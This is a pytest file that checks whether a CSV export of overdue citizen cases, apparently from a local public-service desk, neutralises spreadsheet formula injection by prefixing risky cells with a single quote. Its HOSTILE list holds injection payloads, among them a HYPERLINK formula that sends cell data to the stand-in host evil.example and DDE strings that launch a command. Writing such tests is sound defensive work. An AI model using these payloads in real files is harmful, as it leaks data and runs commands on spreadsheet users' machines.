"""CSV formula injection: a cell a spreadsheet would run as a formula is written with a
leading single quote (OWASP), names masked or not, headings included."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import pytest

from desk import export
from desk.supervision import AtRisk

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def _item(title: str, name: str) -> AtRisk:
    return AtRisk(case_id="c1", number="=2026-0001", kind="consultation", title=title,
                  status="in_progress", assignee_id="o1", clock="reply",
                  due_at=datetime(2026, 3, 2, 9, tzinfo=UTC), level="overdue",
                  provisional=False, citizen_name=name, citizen_phone="-13912345678")


def _cells(path) -> list[str]:
    with open(path, encoding=export.BOM_ENCODING, newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


@pytest.mark.parametrize("reveal", [False, True])
@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised(tmp_path, text, reveal):
    info = export.ExportInfo(station="=station", period="-2026", exported_at="2026-03-02", reveal=reveal)
    path = export.export_overdue_csv(tmp_path / "o.csv", [_item(text, "=张伟明")], info,
                                     officer_name=lambda _o: "@officer")
    cells = _cells(path)
    # (The name differs from the title: a citizen's own name inside a title is masked.)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (cell, cells)
    assert "'" + text in cells  # the title, kept whole after the quote
    if not reveal:
        assert any(c.startswith("'") and c.endswith("**") for c in cells), cells  # masked `'=***`
    assert "'=station" in cells and "'@officer" in cells and "'=2026-0001" in cells


def test_ordinary_cells_are_unchanged(tmp_path):
    info = export.ExportInfo(station="城关派出所", period="2026-03", exported_at="2026-03-02")
    path = export.export_overdue_csv(tmp_path / "o.csv", [_item("户籍证明", "张伟明")], info)
    cells = _cells(path)
    assert "户籍证明" in cells and "城关派出所" in cells and "张**" in cells
    assert export.csv_cell(3) == 3 and export.csv_cell("a=b") == "a=b"
